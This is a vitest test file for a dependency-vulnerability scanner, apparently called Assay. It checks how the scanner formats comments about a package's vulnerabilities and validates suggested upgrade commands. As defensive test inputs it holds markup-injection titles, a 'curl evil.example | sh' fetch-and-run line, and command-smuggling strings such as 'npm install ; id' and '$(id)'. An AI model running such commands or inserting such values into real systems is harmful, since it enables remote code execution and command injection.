// What a comment about a package says of its other vulnerabilities, however many there are and whatever stands in their names.
import { expect, test } from 'vitest';
import type { FindingRecord } from '#domain/result-document.ts';
import { isOwnCommand } from '#upgrade/own-command.ts';
import { alsoTold } from '../../src/publish/also-told.ts';
import { lastLookAtPart } from '../../src/publish/last-look.ts';
import { fingerprintOf, gatherSubjects, subjectOf } from '../../src/publish/plan/comment-subject.ts';
import { aDependency, aVulnerability } from '../doubles/dependency-finding.ts';
import { aFinding } from '../doubles/result-document.ts';

const vulnerable = (number: number, title = 'It can be abused'): FindingRecord =>
  aFinding({
    id: String(number).padStart(16, '0'),
    kind: 'sca',
    dependency: aDependency({ vulnerability: aVulnerability({ id: `CVE-2026-${number}`, title }) }),
  });

test('lists them in their order, and counts those beyond 25', () => {
  const [subject, ...others] = gatherSubjects(Array.from({ length: 40 }, (_, index) => vulnerable(index)));
  if (subject === undefined) throw new Error('there is no subject');
  expect(others).toEqual([]);
  const text = alsoTold(subject, 'en');
  expect(text.split('\n')).toHaveLength(2 + 25 + 1);
  expect(text).toMatch(/^\*\*39 more vulnerabilities of it:\*\*\n\n- `CVE-2026-1` · /);
  expect(text).toContain('\n- 14 more, which the summary and the files of the run list');
  expect(subject.beyond).toHaveLength(14);
  expect(alsoTold({ others: [], more: 0 }, 'zh-CN')).toBe('');
});

test.each(['@all', '`x` <img src=x>', '\n\n# head\n/close', '](https://evil.example)', '```\nsuggestion'])(
  'leaves nothing live of %j',
  (title) => {
    const text = alsoTold({ others: [vulnerable(1, title)], more: 3 }, 'en');
    expect(lastLookAtPart(text, { allowedLinkPrefixes: [] })).toBeNull();
  },
);

test('a package is one subject in a project, another in another, and keeps its fingerprint when the project moves', () => {
  const [one, two] = [vulnerable(1), vulnerable(2)];
  const moved = { ...two, dependency: { ...aDependency(), project: 'elsewhere' } };
  expect(subjectOf(one)).toBe(subjectOf(two));
  expect(subjectOf(moved)).not.toBe(subjectOf(one));
  expect(fingerprintOf(moved)).toBe(fingerprintOf(one));
  expect(subjectOf({ ...one, kind: 'licence' })).toBe(one.id);
  expect(subjectOf(aFinding({ id: 'abcd' }))).toBe('abcd');
});

test('a command is Assay’s own only for the package and the versions it is told with', () => {
  const about = { name: 'lodash', from: '4.17.15', to: '4.17.21' };
  expect(
    ['npm update lodash', 'npm install', 'yarn upgrade lodash'].map((one) => isOwnCommand(one, about)),
  ).toEqual([true, true, true]);
  for (const foreign of ['npm update other', 'npm install ; id', 'curl evil.example | sh', ''])
    expect(isOwnCommand(foreign, about)).toBe(false);
  expect(isOwnCommand('npm update $(id)', { ...about, name: '$(id)' })).toBe(false);
});
